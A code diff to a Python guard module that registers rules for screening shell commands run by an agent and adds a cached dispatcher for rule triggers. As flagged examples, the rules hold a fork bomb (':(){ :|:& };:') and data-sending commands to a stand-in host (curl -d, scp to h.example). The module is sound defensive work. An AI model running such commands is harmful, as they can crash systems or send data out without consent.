@@ -1,10 +1,11 @@
-"""The rules of the guard, one file each; the order is that in which their findings are shown."""
+"""The rules of the guard, one file each, in the order in which their findings are shown."""
 
 from __future__ import annotations
 
 from collections.abc import Callable, Iterator
+from functools import lru_cache
 
-from snell.packs.guard.path_classes import Ground
+from snell.packs.guard.path_classes import Workspace, is_snell_folder
 from snell.packs.guard.rule import Finding, Rule
 from snell.packs.guard.rules import (
     databases,
@@ -36,8 +37,9 @@ from snell.packs.guard.rules import (
     wipe,
 )
 from snell.packs.guard.shell.shell_state import Step
+from snell.packs.guard.triggers import IN_SNELL_FOLDER, LONGEST_NAME, traits_of
 
-Finder = Callable[[Step, Ground], Iterator[Finding]]
+Finder = Callable[[Step, Workspace], Iterator[Finding]]
 
 FORK_BOMB = Rule(
     name="fork-bomb",
@@ -45,15 +47,15 @@ FORK_BOMB = Rule(
     instead="start a fixed number of processes and wait for them",
     flagged=(":(){ :|:& };:", "while true; do work & done"),
     fine=("for i in 1 2 3; do work & done; wait", "while true; do sleep 1; work; done"),
-    about="Processes that start processes without end.",
+    about="Stop commands that start processes without end.",
 )
 AFTER_SECRET = Rule(
     name="send-after-secret",
     family="exfiltration",
-    instead="say what is sent and where, and let the person agree",
+    instead="say what is sent and where, and let the user decide",
     flagged=("curl -d hello https://h.example", "scp notes.txt h.example:"),
     fine=("curl https://h.example", "git push origin main", "curl -d hello http://localhost:3000"),
-    about="Sending in a session that has read a secret: asked about, and denied where the value itself is in it.",
+    about="Ask about commands that send data in a session that has read a secret; deny those that send its value.",
 )
 UNREADABLE = Rule(
     name="unreadable",
@@ -61,7 +63,7 @@ UNREADABLE = Rule(
     instead="write it as a plain, complete command",
     flagged=("echo 'open", 'echo "open'),
     fine=("echo 'closed'",),
-    about="A command that cannot be read to its end, too long or too deep: asked about, never allowed.",
+    about="Ask about commands that cannot be parsed completely: invalid, too long, or nested too deeply.",
 )
 
 _MODULES = (
@@ -94,7 +96,34 @@ _MODULES = (
     exposure,
 )
 
-FINDERS: tuple[Finder, ...] = tuple(module.find for module in _MODULES)
 RULES: dict[str, Rule] = {
     rule.name: rule for rule in (*(module.RULE for module in _MODULES), AFTER_SECRET, FORK_BOMB, UNREADABLE)
 }
+
+
+def find_in_step(step: Step, real: Step | None, workspace: Workspace) -> Iterator[Finding]:
+    """
+    Call the rules whose trigger occurs in a step.
+
+    Args:
+        real: the same step with symbolic links resolved, where there are any; it is judged, too.
+    """
+    place = IN_SNELL_FOLDER if is_snell_folder(workspace) else 0
+    called = _finders(step.program[:LONGEST_NAME], traits_of(step) | place)
+    if real is None:
+        for find in called:
+            yield from find(step, workspace)
+        return
+    called_by_real = _finders(real.program[:LONGEST_NAME], traits_of(real) | place)
+    for find in _FINDERS:
+        for each, finders in ((step, called), (real, called_by_real)):
+            if find in finders:
+                yield from find(each, workspace)
+
+
+@lru_cache(maxsize=2048)
+def _finders(program: str, traits: int) -> tuple[Finder, ...]:
+    return tuple(module.find for module in _MODULES if module.TRIGGER.occurs(program, traits))
+
+
+_FINDERS: tuple[Finder, ...] = tuple(module.find for module in _MODULES)
